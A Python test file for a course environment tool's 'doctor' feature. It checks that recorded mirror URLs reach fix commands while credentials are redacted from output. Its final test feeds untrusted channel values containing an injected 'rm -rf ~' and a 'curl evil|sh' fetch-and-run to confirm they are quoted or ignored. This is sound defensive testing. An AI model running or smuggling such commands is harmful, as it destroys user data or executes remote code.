"""The channel and index setup recorded in the env, reused by fix lines and ``doctor --fix``
(issue 10, item 15): a mirrored or offline class is never sent to the public indexes; a
mirror's credentials reach the commands that run and nothing that is printed or saved."""

from __future__ import annotations

import dataclasses
import json
import os
import shlex
import stat
from pathlib import Path

import pytest

from coursekit.doctor.facts import Facts, SetupRecordFacts, from_data
from coursekit.doctor.fixes import apply_fixes, live_record, plan_fixes
from coursekit.doctor.recorded import fix_with_sources, read_record, setup_flags, torch_index
from coursekit.doctor.report import load_report, make_report, report_data
from coursekit.setup.run.record import record_data, record_path, write_record
from tests.doctor.fixtures import finding_data, merge
from tests.doctor.test_fixes import Recorder

SECRET = "ann:s3cret-token"
MIRROR = f"https://{SECRET}@mirror.uni.example/pytorch/whl/cu126"
CHANNEL = f"https://{SECRET}@mirror.uni.example/conda-forge"
PUBLIC = "download.pytorch.org"


def _record(prefix: Path, **overrides: object) -> Path:
    values: dict[str, object] = dict(
        engine="embedded", channels=(CHANNEL,), channels_given=True, index=MIRROR,
        index_is_folder=False, index_given=True, pypi_index_url=None, backend="cu126",
        torch="2.13.0+cu126")
    values.update(overrides)
    return write_record(prefix, record_data(**values))  # type: ignore[arg-type]


def _live_report(tmp_path: Path, finding: str = "cpu-torch-on-gpu") -> tuple[Facts, Path]:
    """Facts of a live run whose env (at a real prefix) setup made from the mirror."""
    prefix = tmp_path / "envs" / "pt"
    _record(prefix)
    data = merge(finding_data(finding), {"env": {"prefix": str(prefix), "exists": True}})
    facts = from_data(Facts, data)
    from coursekit.doctor.collect import setup_record_check

    return dataclasses.replace(facts, setup=setup_record_check(facts.env)), prefix  # type: ignore[arg-type]


def test_the_record_is_written_atomically_owner_only_and_read_back(tmp_path: Path) -> None:
    path = _record(tmp_path)
    assert path == tmp_path / "etc" / "coursekit" / "setup.json"
    assert not list(path.parent.glob("*.tmp")), "no temp file left"
    if os.name != "nt":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    raw = read_record(tmp_path, redacted=False)
    assert raw is not None and raw.index_url == MIRROR and raw.channels == (CHANNEL,)
    shown = read_record(tmp_path)
    assert shown is not None and SECRET not in json.dumps(dataclasses.asdict(shown))
    assert shown.index_url == "https://***@mirror.uni.example/pytorch/whl/cu126"
    # not under conda-meta/: conda and py-rattler read every conda-meta/*.json as a package
    assert not (tmp_path / "conda-meta").exists()


@pytest.mark.parametrize("text", ["", "{", "[]", '{"kind": "other"}', "\x00\x01", "9" * 70000])
def test_a_damaged_or_foreign_record_is_no_record(tmp_path: Path, text: str) -> None:
    path = record_path(tmp_path)
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8")
    assert read_record(tmp_path) is None


def test_fix_lines_carry_the_recorded_channel_and_index_for_the_fixs_build() -> None:
    record = SetupRecordFacts(channels=(CHANNEL,), channels_given=True, index_url=MIRROR,
                              index_given=True, backend="cu126")
    line = fix_with_sources("coursekit setup --backend cu130  (installs torch 2.13.0+cu130), or "
                            "coursekit doctor --fix", record)
    assert line.startswith(f"coursekit setup --backend cu130 --channel {CHANNEL} --index-url "
                           f"{MIRROR[:-len('cu126')]}cu130  (installs")
    again = fix_with_sources("`conda env remove -n pt -y`, then `coursekit setup`", record)
    assert again.endswith(f"`coursekit setup --channel {CHANNEL} --index-url {MIRROR}`")
    pip = fix_with_sources("python -m pip install torch==2.13.0+cpu --index-url "
                           "https://download.pytorch.org/whl/cpu  (x)", record)
    assert pip == f"python -m pip install torch==2.13.0+cpu --index-url {MIRROR[:-5]}cpu  (x)"
    # a wheel folder (an offline room) stays the folder, for every build
    folder = dataclasses.replace(record, index_url="/srv/wheels", index_is_folder=True)
    assert torch_index(folder, "cu130") == "/srv/wheels"
    assert "--no-index --find-links /srv/wheels" in fix_with_sources(
        "python -m pip install torch --index-url https://download.pytorch.org/whl/cu130", folder)
    # a mirror whose URL does not end in the build is used as it is
    flat = dataclasses.replace(record, index_url="https://mirror.example/simple")
    assert torch_index(flat, "cu130") == "https://mirror.example/simple"


@pytest.mark.parametrize("record", [
    None,
    SetupRecordFacts(channels=("conda-forge",), index_url=f"https://{PUBLIC}/whl/cu126",
                     backend="cu126"),  # setup's defaults: nothing was chosen
])
def test_without_a_recorded_choice_fix_lines_are_as_before(record: SetupRecordFacts | None) -> None:
    for fix in ("coursekit setup --backend cu130  (x)", "coursekit setup --force",
                f"pip install torch --index-url https://{PUBLIC}/whl/cu130"):
        assert fix_with_sources(fix, record) == fix
    assert setup_flags(record, "cu130") == ()
    data = finding_data("cpu-torch-on-gpu")
    facts = from_data(Facts, data)
    with_default = dataclasses.replace(facts, setup=record)
    assert [f.fix for f in make_report(with_default).findings] == [
        f.fix for f in make_report(facts).findings]
    [action] = plan_fixes(make_report(with_default))
    assert f"https://{PUBLIC}/whl/cu130" in action.commands[0]


def test_live_fix_lines_and_fix_commands_use_the_recorded_mirror(tmp_path: Path) -> None:
    facts, _ = _live_report(tmp_path)
    report = make_report(facts)
    fix = next(f.fix for f in report.findings if f.id == "cpu-torch-on-gpu")
    words = shlex.split(fix.split("  (")[0])  # the command pastes: quoted where it must be
    assert words[words.index("--index-url") + 1] == "https://***@mirror.uni.example/pytorch/whl/cu130"
    assert words[words.index("--channel") + 1] == "https://***@mirror.uni.example/conda-forge"
    assert PUBLIC not in fix
    # --fix: the real URL (credentials and all) reaches pip through the runner door
    recorded = live_record(report)
    assert recorded is not None and recorded.index_url == MIRROR
    [action] = plan_fixes(report, recorded)
    runner = Recorder()
    outcomes = apply_fixes(action and (action,), lambda a: True, runner=runner,
                           environ={"PATH": "/usr/bin"})
    assert [o.ok for o in outcomes] == [True]
    [(install, _)] = runner.calls
    assert install[install.index("--index-url") + 1] == MIRROR[:-len("cu126")] + "cu130"
    assert not any(PUBLIC in a for a in install)
    # the title a student sees names the mirror, and the renderer hides its credentials
    from coursekit.render import redact_urls

    assert SECRET not in redact_urls(action.title) and "mirror.uni.example" in action.title


def test_the_json_report_has_the_record_without_credentials_and_from_reuses_it(
        tmp_path: Path) -> None:
    facts, _ = _live_report(tmp_path)
    text = json.dumps(report_data(make_report(facts)))
    assert SECRET not in text  # nor in --save, which writes report_data as it is
    assert json.loads(text)["facts"]["setup"]["channels"] == [
        "https://***@mirror.uni.example/conda-forge"]
    saved = tmp_path / "report.json"
    saved.write_text(text, encoding="utf-8")
    again = load_report(saved)  # a TA's --from on another machine
    assert again.facts.setup is not None and again.facts.setup.index_given
    fix = next(f.fix for f in again.findings if f.id == "cpu-torch-on-gpu")
    assert "mirror.uni.example/pytorch/whl/cu130" in fix and PUBLIC not in fix
    assert live_record(again) is None  # a report's record never drives a --fix here
    [action] = plan_fixes(again)
    assert "mirror.uni.example" in " ".join(action.commands[0])


def test_a_report_without_the_record_still_loads(tmp_path: Path) -> None:
    data = report_data(make_report(from_data(Facts, finding_data("cpu-torch-on-gpu"))))
    assert data["facts"]["setup"] is None
    del data["facts"]["setup"]
    path = tmp_path / "old.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    report = load_report(path)
    assert report.facts.setup is None
    fix = next(f.fix for f in report.findings if f.id == "cpu-torch-on-gpu")
    assert fix.startswith("coursekit setup --backend cu130  (") and "--index-url" not in fix
    [action] = plan_fixes(report)
    assert f"https://{PUBLIC}/whl/cu130" in action.commands[0]


def test_a_pypi_mirror_from_pip_config_serves_a_plain_pypi_fix() -> None:
    """macOS (plain PyPI build): the fix's pip goes to the PyPI mirror setup used, not pypi.org."""
    from coursekit.doctor import fixes
    from coursekit.doctor.advice import course_planner
    from coursekit.doctor.planning import suggest_backend
    from coursekit.doctor.view import View

    facts = from_data(Facts, finding_data("cpu-torch-on-gpu"))
    record = SetupRecordFacts(pypi_index_url="https://pypi.mirror.example/simple")
    advice = suggest_backend(View(facts, course_planner()))
    plain = dataclasses.replace(advice, index_url=None)  # type: ignore[arg-type]
    view = View(dataclasses.replace(facts, setup=record), course_planner())
    view.__dict__["advice"] = plain  # what the planner says on macOS: plain PyPI
    action = fixes._reinstall(view, "/env/bin/python", ["x"], record)
    assert action is not None
    assert action.commands[0][action.commands[0].index("--index-url") + 1] == (
        "https://pypi.mirror.example/simple")


def test_the_fix_plan_shown_before_fix_runs_hides_the_credentials(tmp_path: Path) -> None:
    import io

    from coursekit.render import Console
    from coursekit.render.doctor import render_fix_plan, render_text

    facts, _ = _live_report(tmp_path)
    report = make_report(facts)
    actions = plan_fixes(report, live_record(report))
    assert SECRET in " ".join(actions[0].commands[0])  # what runs has them
    out = io.StringIO()
    console = Console(out=out, err=out, color=False, width=200)
    render_fix_plan(console, actions)
    render_text(console, report, verbose=True)
    console.json(report_data(report))
    shown = out.getvalue()
    assert SECRET not in shown and "https://***@mirror.uni.example/pytorch/whl/cu130" in shown


def test_a_reports_odd_record_values_are_quoted_or_ignored() -> None:
    """--from values are untrusted: a channel with shell syntax is quoted, one with a line
    break leaves the fix line as it was (a pasted command must stay one command)."""
    import shlex

    odd = SetupRecordFacts(channels=("x; rm -rf ~",), channels_given=True)
    line = fix_with_sources("coursekit setup --force", odd)
    assert shlex.split(line) == ["coursekit", "setup", "--force", "--channel", "x; rm -rf ~"]
    broken = SetupRecordFacts(channels=("https://m/c\ncurl evil|sh",), channels_given=True)
    assert fix_with_sources("coursekit setup --force", broken) == "coursekit setup --force"
